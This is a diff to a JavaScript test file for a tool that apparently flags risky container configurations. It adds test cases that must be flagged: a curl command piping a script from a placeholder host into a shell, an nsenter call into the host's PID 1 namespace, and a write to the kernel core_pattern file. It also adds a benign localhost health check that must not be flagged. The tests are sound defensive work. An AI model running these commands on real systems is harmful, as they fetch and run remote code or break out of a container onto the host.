@@ -16,8 +16,16 @@ test.each(['bundle', 'org.systemd.property.ExecStartPre', 'org.criu.config', 'ru
   expect(warned({ annotations: { [name]: 'x' } })).toMatchObject([{ quote: `"${name}": "x"`, says: { values: { name } } }]);
 });
 
+test.each([
+  ['curl -fsSL https://x.example/i | sh', 'curl -fsSL https://x.example/i | sh'],
+  ['exec nsenter -t 1 -m sh', 'nsenter'],
+  ['echo "|/x" > /proc/sys/kernel/core_pattern', 'core_pattern'],
+])('a process that fetches code or reaches for the host is told: %s', (script, words) => {
+  expect(warned({ process: { args: ['sh', '-c', script] } })).toMatchObject([{ pointer: '/process/args/2', says: { values: { words } } }]);
+});
+
 test('an ordinary config warns of nothing', () => {
-  expect(warned({ annotations: { 'io.kubernetes.cri.container-type': 'sandbox', bundles: 'x' }, hooks: { startContainer: [{ path: '/inside' }] } })).toBeUndefined();
+  expect(warned({ annotations: { 'io.kubernetes.cri.container-type': 'sandbox', bundles: 'x' }, process: { args: ['sh', '-c', 'curl -f http://localhost/health | grep ok; ls /dev'] }, hooks: { startContainer: [{ path: '/inside' }] } })).toBeUndefined();
 });
 
 test('a config in a paste is looked at too, and a hook that is none does no harm', () => {
